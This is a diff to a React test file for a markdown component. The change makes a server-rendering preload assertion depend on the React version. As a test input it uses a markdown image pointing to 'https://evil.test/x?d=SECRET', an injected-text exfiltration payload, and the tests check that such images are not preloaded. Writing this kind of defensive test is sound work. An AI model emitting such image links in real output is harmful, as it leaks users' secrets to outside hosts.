@@ -1,5 +1,6 @@
 import { act, cleanup, fireEvent, render, screen } from "@testing-library/react";
 import fc from "fast-check";
+import { version } from "react";
 import { renderToString } from "react-dom/server";
 import ReactMarkdown from "react-markdown";
 import { afterEach, describe, expect, test, vi } from "vitest";
@@ -228,7 +229,8 @@ describe("injected text", () => {
   test("React's own renderer would preload the picture in server-rendered markup; an allowed one is not preloaded", async () => {
     const { default: Real } = await vi.importActual<typeof import("react-markdown")>("react-markdown");
     const text = "![](https://evil.test/x?d=SECRET)";
-    expect(renderToString(<Real>{text}</Real>)).toContain('<link rel="preload"');
+    const preloads = Number.parseInt(version, 10) >= 19; // the older one has no such thing
+    expect(renderToString(<Real>{text}</Real>).includes('<link rel="preload"')).toBe(preloads);
     const allowed = renderToString(<Markdown text={text} imageHosts={["evil.test"]} />);
     expect(allowed).toContain("<img");
     expect(allowed).not.toContain("preload");
